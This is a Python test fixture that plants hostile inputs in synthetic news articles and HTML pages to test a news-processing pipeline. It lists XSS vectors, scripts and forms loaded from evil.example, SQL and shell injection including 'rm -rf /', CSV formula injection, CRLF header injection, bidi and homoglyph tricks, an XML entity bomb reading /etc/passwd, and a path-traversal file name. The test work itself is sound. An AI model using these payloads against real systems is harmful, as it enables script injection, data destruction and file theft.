"""Articles that mean harm: what they try stands in the title, the text, names, outlet and file.

`WORDS` are put into the same plain article, so that they reach every page that shows reports:
as a headline, in a quotation, in the name of who speaks, in that of the outlet. `FILES` are whole
files, for what words alone cannot try.
"""

from __future__ import annotations

from headwater.records import Capture, Given
from tests.casebook import news

WORDS: dict[str, str] = {
    # markup and script
    "script": "<script>alert(1)</script>",
    "script, capitals": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "script, half": "<script",
    "script, broken up": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script, closing others": "</title></style></textarea></script><script>alert(1)</script>",
    "image": "<img src=x onerror=alert(1)>",
    "image, quoted": "\"><img src=x onerror='alert(1)'>",
    "image, in an attribute": "' onmouseover='alert(1)' x='",
    "attribute, double": '" autofocus onfocus=alert(1) x="',
    "attribute, backtick": "` onmouseover=alert(1) `",
    "svg": "<svg onload=alert(1)><circle r=9></svg>",
    "svg, animate": "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "svg, foreign": "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
    "math": "<math href='javascript:alert(1)'>CLICK</math>",
    "frame": "<iframe src=javascript:alert(1)></iframe>",
    "frame, srcdoc": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "object": "<object data='data:text/html;base64,PHNjcmlwdD4='></object>",
    "embed": "<embed src=//evil.example/x.swf>",
    "base": "<base href=//evil.example/>",
    "meta": "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "link": "<link rel=stylesheet href=//evil.example/x.css>",
    "style": "<style>*{background:url(//evil.example)}</style>",
    "style, attribute": "<b style='position:fixed;inset:0'>over all</b>",
    "form": "<form action=//evil.example><button>Decide</button></form>",
    "input": "<input autofocus onfocus=alert(1)>",
    "details": "<details open ontoggle=alert(1)>",
    "template": "<template><script>alert(1)</script></template>",
    "noscript": "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "comment": "<!--><img src=x onerror=alert(1)>-->",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "anchor": "<a href='javascript:alert(1)'>Read more</a>",
    "ids": "<p id=main><p id=q name=documentElement>",
    # addresses
    "javascript": "javascript:alert(document.cookie)",
    "javascript, split": "java\tscript:alert(1)",
    "data": "data:text/html,<script>alert(1)</script>",
    "protocol": "//evil.example/%2e%2e/",
    "userinfo": "https://reuters.com@evil.example/",
    # entities and encodings
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &amp;amp; &#60;b&#62;",
    "entity, no end": "&#x3cscript&#x3e &NotEqualTilde; &unknown;",
    "percent": "%3Cscript%3Ealert(1)%3C/script%3E %00 %0d%0aSet-Cookie: a=b",
    "escapes": "\\u003cscript\\u003e \\x3c \\' \\\" \\\\",
    "utf-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    # templates and other languages
    "jinja": "{{ 7 * 7 }} {{ config }} {{ ''.__class__.__mro__ }}",
    "jinja, statement": "{% for x in range(9) %}x{% endfor %} {# gone #}",
    "jinja, closing": "}} %} #} {{",
    "format": "%s %(name)s {0} {page.__init__} ${7*7} #{7*7} <%= 7*7 %>",
    "sql": "'); DROP TABLE report; --",
    "fts": '" OR content:* NEAR(a b) ^',
    "shell": "$(touch /tmp/x) `id` ; rm -rf / | cat",
    "csv": "=HYPERLINK(\"http://evil.example\",\"x\") +1 -1 @SUM(A1)",
    "markdown": "[x](javascript:alert(1)) ![y](//evil.example/z.png) <br> `code` **b**",
    "markdown, footnote": "[^1]: # Heading\n---\n| a | b |",
    "csp": "default-src *; script-src 'unsafe-inline'",
    # what is not seen
    "override": "exe.\u202egpj.\u202c and \u2066hidden\u2069",
    "embedding": "\u202b(Meridian)\u202c \u200f\u200e",
    "zero width": "Me\u200bri\ufeffdi\u2060an",
    "fillers": "a\u3164b\u115fc\uffa0d\u17b4e",
    "tags": "flag\U000e0067\U000e0062\U000e007f",
    "variation": "x\ufe0f\ufe0f\U000e0100y",
    "controls": "bell\x07 escape\x1b[2J delete\x7f next\x85 line\u2028 paragraph\u2029",
    "homoglyphs": "\u0405\u0435\u0430bright \u0422V", 
    "combining": "Z" + "\u0337\u0321\u0348\u0353\u0301" * 40,
    "emoji": "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f1fa\U0001f1f8",
    "astral": "\U0001d400\U0001d401 \U0010ffff \ufffe",
    "arabic": "\u0642\u0627\u0644 \u0645\u0633\u0624\u0648\u0644\u0627\u0646",
    # much of it
    "quotes": "\u201c\u2018\u201c" * 30 + "'\"" * 30,
    "long word": "A" * 5_000,
    "long headline": "very long " * 400,
    "brackets": "(((((((((([[[[[[[[[[{{{{{{{{{{<<<<<<<<<<" * 5,
    "ampersands": "&" * 300,
}  # fmt: skip

_ARTICLE = (
    "Fire at plant in Marvel kills {dead} {words}\n\n"
    "{outlet}\n\n"
    "At least {dead} workers died after a fire at the plant of Beldor Corp in Marvel on Monday, "
    "police chief Tas {words} said.\n\n"
    "\u201cThe doors were locked {words} from the outside,\u201d Tas Lingor told {outlet}. "
    "Beldor Corp denied that any door was locked. {words}\n\n"
    "According to two officials, inspectors of {words} had warned Beldor Corp in March.\n"
)


def _text(number: int, words: str) -> tuple[Capture, Given]:
    outlet = f"Outlet {number} {words[:200]}"
    text = _ARTICLE.format(words=words, outlet=outlet, dead=3 + number % 2)
    given = Given(outlet=outlet, published=f"2025-03-{4 + number % 20:02}", title=None)
    source = f"{number}-{words[:60]}.txt"
    return news.capture(text.encode("utf-8", "surrogatepass"), source), given


def _page(head: str, body: str, attributes: str = "") -> bytes:
    plain = news.article(7, 1).split("\n\n")
    paragraphs = "".join(f"<p>{each}</p>" for each in plain[2:])
    return (
        f"<!doctype html><html {attributes}><head><title>Leak at refinery</title>{head}</head>"
        f"<body><article><h1>{plain[0]}</h1>{paragraphs}{body}</article></body></html>"
    ).encode()


_LD = (
    '<script type="application/ld+json">{"@type":"NewsArticle","headline":"<img src=x>",'
    '"url":"javascript:alert(1)","author":{"name":"<svg onload=alert(1)>"},'
    '"publisher":{"name":"\\u202eRuetsre"},"datePublished":"<b>soon</b>"}</script>'
)
_BOMB = (
    '<?xml version="1.0"?><!DOCTYPE html [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9))
    + '<!ENTITY x SYSTEM "file:///etc/passwd">]>'
)

FILES: dict[str, bytes] = {
    "attributes.html": _page("", '<p onclick=alert(1) style="x:y">Police <a onfocus=alert(1) '
                             'href="javascript:alert(1)">said</a> so.</p>', "onload=alert(1)"),
    "linked-data.html": _page(_LD, ""),
    "canonical.html": _page('<link rel=canonical href="javascript:alert(1)">'
                            '<meta property="og:url" content="data:text/html,x">', ""),
    "refresh.html": _page('<meta http-equiv=refresh content="0;url=//evil.example">'
                          "<base href=//evil.example/>", ""),
    "entity-bomb.html": _BOMB.encode() + _page("", "<p>&i;&x;</p>"),
    "deep.html": _page("", "<div>" * 3_000 + "<p>Deep, police said.</p>"),
    "svg-words.html": _page("", "<svg><script>alert(1)</script><text>Drawn</text></svg>"),
    "unclosed.html": _page("", "<p>Police said <b><i><a href='x'>so<table><td><script>alert(1)"),
    "null.txt": news.article(8, 1).replace(" ", " \x00", 9).encode(),
    "broken-utf8.txt": news.article(9, 1).encode() + b"\xff\xfe\xc0\xaf\xed\xa0\x80 said.\n",
    "latin.txt": news.article(10, 1).encode() + "Caf\xe9, police chief said.\n".encode("latin-1"),
    "utf16.txt": news.article(11, 1).encode("utf-16"),
    "one-line.txt": (news.article(12, 1).replace("\n", " ") * 60).encode(),
    "huge-word.txt": news.article(13, 1).encode() + b"x" * 200_000,
    "lines.txt": news.article(14, 1).encode() + b"\n\n." * 500,
    "crlf.txt": news.article(15, 1).replace("\n", "\r\n").replace(" ", "\t", 5).encode(),
}  # fmt: skip

_FILE_NAMES = {"linked-data.html": "../../<b>linked</b>\u202edata.html"}


def reports() -> list[tuple[Capture, Given]]:
    """All of them, as a casebook takes them."""
    several = [_text(number, words) for number, words in enumerate(WORDS.values())]
    return several + [
        (news.capture(data, _FILE_NAMES.get(name, name)), Given()) for name, data in FILES.items()
    ]
